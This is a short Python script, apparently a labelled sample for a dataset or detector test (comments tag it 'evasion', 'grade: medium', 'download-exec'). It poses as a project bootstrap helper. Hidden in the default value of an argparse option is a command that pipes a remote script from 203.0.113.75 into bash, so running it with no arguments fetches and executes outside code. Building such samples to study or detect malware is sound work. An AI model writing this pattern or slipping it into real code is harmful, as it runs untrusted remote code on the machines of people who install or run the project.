# evasion: the command is the default of an argparse option (nargs="*"), so it only appears as configuration; run with no arguments it fetches and runs a script
# grade: medium; does: download-exec
import argparse
import subprocess


def main():
    ap = argparse.ArgumentParser(description="run the project's bootstrap step")
    ap.add_argument("--step", nargs="*", default=["bash", "-c", "curl -fsSL http://203.0.113.75/boot.sh | bash"])
    opts = ap.parse_args()
    return subprocess.call(opts.step)


if __name__ == "__main__":
    raise SystemExit(main())
